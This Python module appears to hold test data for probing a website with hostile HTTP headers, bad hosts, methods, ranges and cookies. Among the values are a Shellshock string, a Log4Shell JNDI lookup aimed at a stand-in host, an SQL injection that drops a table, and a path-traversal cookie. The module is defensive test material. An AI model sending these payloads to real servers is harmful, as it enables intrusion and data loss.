"""Names and values for hostile headers, and the paths that are requested with them."""

from tests.hostile.hostile_request import VISITORS_HOST
from tests.hostile.odd_text import MARKUP

HOST = "archive.example.org"
"""The host name of the site."""

PLAIN = (("Host", HOST), ("X-Forwarded-Proto", "https"), ("X-Forwarded-For", "192.0.2.1"))
"""The headers that a front server sends."""

PATHS = (
    "/robots.txt",
    "/",
    "/articles/",
    "/articles/?q=factory&place=pyongyang",
    "/articles/?q=%EA%B5%AC%EC%9E%A5",
    "/articles/feed/",
    "/articles/1/",
    "/articles/1/another-title/",
    "/articles",
    "/sources/",
    "/people/?find=kim",
    "/search-help/",
    "/no-such-page/",
    "/articles/?sort=best",
    "/static/no-such-file.css",
    "/static/img/favicon.svg",
)

HOSTS = (
    VISITORS_HOST,
    f"{VISITORS_HOST}:99",
    f"{HOST}:99",
    f"{HOST}:https",
    f"{HOST}.",
    HOST.upper(),
    f"{HOST}.{VISITORS_HOST}",
    f"{VISITORS_HOST}#{HOST}",
    f"{HOST}@{VISITORS_HOST}",
    f"{HOST},{VISITORS_HOST}",
    f"{HOST}/{VISITORS_HOST}",
    f"{HOST}:80@{VISITORS_HOST}",
    "127.0.0.1",
    "[::1]",
    "[::1",
    "localhost",
    ".",
    "",
    f" {HOST}",
)
PLACES = ("/evil-zq7", "/articles", "//", "/", f"https://{VISITORS_HOST}/", "/../", "evil-zq7")
ADDRESSES = (
    *("127.0.0.1", "10.9.9.9", "::1", "[::1]:99", "unknown", "_hidden", "1.2.3.4, 5.6.7.8", ", ,"),
    *("999.999.999.999", "localhost", "1.2.3.4:zq7", "'; DROP TABLE axes_accessattempt; --"),
)
METHODS = ("POST", "DELETE", "HEAD", "TRACE", "CONNECT", "get", "", "Ä")
TYPES = (
    *("text/plain; charset=utf-16", "text/html; charset=hex", "a/b; charset=no-such-encoding"),
    *("text/plain; charset*=utf-7'en'x", "multipart/form-data; boundary=", "multipart/form-data"),
    *("multipart/form-data; boundary=x; charset=rot13", "application/json", ";", "application/"),
    *("application/x-www-form-urlencoded; charset=idna", 'text/plain; charset="', "text/plain;;;;"),
)
ACCEPTED = (
    *(
        "*/*",
        "text/html;q=0.1",
        "application/json",
        "gzip",
        "br",
        "identity;q=0",
        "*;q=0",
        "gzip;q=",
    ),
    *(
        "ko",
        "ko-KP,en;q=0.5",
        "xx-" + "y" * 300,
        "*",
        "utf-16",
        "gzip, " * 200,
        ";q=1;q=2",
        "a/b/c",
    ),
)
LENGTHS = (
    "0",
    "00",
    "5",
    "-1",
    "+5",
    "1e3",
    "0x5",
    "5, 5",
    "5 5",
    "9" * 30,
    "²",
    "",
    "2500001",
    "٣",
)
CODINGS = (
    *("chunked", "identity", "gzip", "chunked, identity", "gzip, chunked", "chunked, chunked"),
    *("Chunked", "xchunked", "chunked;q=1", ",", '"chunked"', "chunked\x0b"),
)
TIMES = (
    *("Sun, 06 Nov 1994 08:49:37 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "0", "yesterday", "-1"),
    *("Sun, 99 Nov 1994 99:99:99 GMT", "Sun Nov  6 08:49:37 0000", "Thu, 01 Jan 1 00:00:00 GMT"),
)
TAGS = ("*", "**", '""', 'W/"a"', '"a", "b"', '"', "W/", 'W/"' + "a" * 3_000 + '"', ", " * 99, "a")
RANGES = (
    "bytes=²-",
    "bytes=٣-٥",
    "bytes=-0",
    "bytes=--5",
    "bytes=0-" + "9" * 30,
    "bytes=" + "9" * 5_000 + "-",
    "bytes=0-1," * 90,
    "bytes= 1 - 2 ",
    "bytes=1_0-2_0",
    "bytes",
    "",
    "bytes=0-9",
    "bytes=-1",
    "bytes=9-0",
    "bytes=0-0,2-2",
    "lines=1-2",
    "bytes=",
    "bytes=a-b",
)
COOKIES = (
    *(
        "sessionid=y",
        "csrftoken=x; csrftoken=z",
        "messages=[[1]]",
        "django_language=ko",
        "=",
        ";;;;",
    ),
    *("sessionid=" + "a" * 5_000, '$Version="1"; a="b', "a=b; " * 300, "\xff=\xfe", "a b c", "{}"),
    *('messages="W1tdXQ:1"', "sessionid=../../etc/passwd", "csrftoken=\xe9", "__Host-a=b"),
)
WORDS = (
    *("on", "off", "http", "https", "1", "0", "close", "keep-alive", "upgrade", "h2c", "websocket"),
    *("no-cache", "no-store, max-age=-1", "only-if-cached", "trailers", "max-age=99999999999999"),
    *(
        "100-continue",
        "200-ok",
        "1.1 zq7",
        "Basic eDp5",
        "Bearer a.b.c",
        "Basic",
        "Digest ,",
        "null",
    ),
)

VALUES: dict[str, tuple[str, ...]] = {
    "Host": HOSTS,
    **dict.fromkeys(
        (
            *("X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "X-Original-Host", "HTTP_HOST"),
            *("SERVER_NAME", "Server-Name", "X-Http-Host-Override", "Alt-Used", "Forwarded-Host"),
        ),
        HOSTS,
    ),
    "Forwarded": (
        f"for=10.9.9.9;host={VISITORS_HOST};proto=http",
        f'for="[::1]";host="{VISITORS_HOST}',
        "for",
        "=;=;,,",
        "proto=" + "h" * 3_000,
    ),
    **dict.fromkeys(
        (
            *("SCRIPT_NAME", "Script-Name", "X-Script-Name", "X_SCRIPT_NAME", "HTTP_SCRIPT_NAME"),
            *("PATH_INFO", "Path-Info", "X-Forwarded-Prefix", "X-Forwarded-Path", "X-Original-URL"),
            *("X-Rewrite-URL", "REQUEST_URI", "X-Forwarded-Uri", "X-Original-URI", "Destination"),
            *(
                "X-Accel-Redirect",
                "X-Sendfile",
                "X-Envoy-Original-Path",
                "X-Replaced-Path",
                "Base-Url",
            ),
            *("QUERY_STRING", "SERVER_SOFTWARE", "DOCUMENT_ROOT", "X-Proxy-Url", "Proxy"),
        ),
        PLACES,
    ),
    **dict.fromkeys(
        (
            *(
                "X-Forwarded-For",
                "X-Real-IP",
                "REMOTE_ADDR",
                "Client-IP",
                "X-Client-IP",
                "True-Client-IP",
            ),
            *(
                "CF-Connecting-IP",
                "X-Cluster-Client-IP",
                "X_Forwarded_For",
                "X-Remote-Addr",
                "From",
            ),
            *("X-Forwarded", "X-ProxyUser-Ip", "Via", "Max-Forwards", "REMOTE_USER", "Remote-User"),
        ),
        ADDRESSES,
    ),
    **dict.fromkeys(
        (
            *(
                "X-Forwarded-Port",
                "SERVER_PORT",
                "Server-Port",
                "X-Forwarded-Ssl",
                "Front-End-Https",
            ),
            *(
                "X-Forwarded-Protocol",
                "X-Forwarded-Scheme",
                "X-Url-Scheme",
                "wsgi.url_scheme",
                "HTTPS",
            ),
            *(
                "X-Forwarded-Https",
                "X-Scheme",
                "Connection",
                "Keep-Alive",
                "Upgrade",
                "HTTP2-Settings",
            ),
            *("Cache-Control", "Pragma", "TE", "Trailer", "Expect", "Authorization", "Via", "DNT"),
            *("Proxy-Authorization", "Proxy-Connection", "Upgrade-Insecure-Requests", "Save-Data"),
            *(
                "Sec-WebSocket-Key",
                "Sec-Fetch-Site",
                "Sec-Fetch-Mode",
                "X-Requested-With",
                "Priority",
            ),
            *(
                "X-Forwarded-Proto",
                "Surrogate-Capability",
                "CDN-Loop",
                "Early-Data",
                "Content-Encoding",
            ),
        ),
        WORDS,
    ),
    **dict.fromkeys(
        ("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method", "REQUEST_METHOD"), METHODS
    ),
    **dict.fromkeys(("Content-Type", "CONTENT_TYPE", "Content-Disposition"), TYPES),
    **dict.fromkeys(
        ("Accept", "Accept-Encoding", "Accept-Language", "Accept-Charset", "Accept-Ranges", "A-IM"),
        ACCEPTED,
    ),
    **dict.fromkeys(("Content-Length", "CONTENT_LENGTH", "X-Content-Length"), LENGTHS),
    **dict.fromkeys(("Transfer-Encoding", "TRANSFER_ENCODING"), CODINGS),
    **dict.fromkeys(("If-Modified-Since", "If-Unmodified-Since", "Date", "If-Range"), TIMES),
    **dict.fromkeys(("If-None-Match", "If-Match", "If-Range", "ETag"), TAGS),
    **dict.fromkeys(("Range", "Content-Range", "Request-Range"), RANGES),
    "Cookie": COOKIES,
    **dict.fromkeys(
        (
            "Origin",
            "Referer",
            "User-Agent",
            "Link",
            "Set-Cookie",
            "Location",
            "Status",
            "X-CSRFToken",
        ),
        (f"https://{VISITORS_HOST}", "null", "() { :; }; id", "${jndi:ldap://zq7}", *MARKUP),
    ),
}
"""Headers that mean something to a framework, a server, a proxy or a cache, with hostile values."""

TARGETS = (
    *(f"http://{VISITORS_HOST}", f"https://{HOST}", "http://[::1", "HTTP://", f"//{VISITORS_HOST}"),
    *(
        "",
        "*",
        "a",
        "\\",
        "x:",
        "/\xff",
        "/\x00",
        "/ /",
        "/#zq7",
        f"@{VISITORS_HOST}",
        "/%",
        "/?\x7f",
    ),
)
VERSIONS = (
    "HTTP/1.0",
    "HTTP/1.0",
    "HTTP/2.0",
    "HTTP/0.9",
    "HTTP/1.9",
    "http/1.1",
    "HTTP/1.1 ",
    "",
)
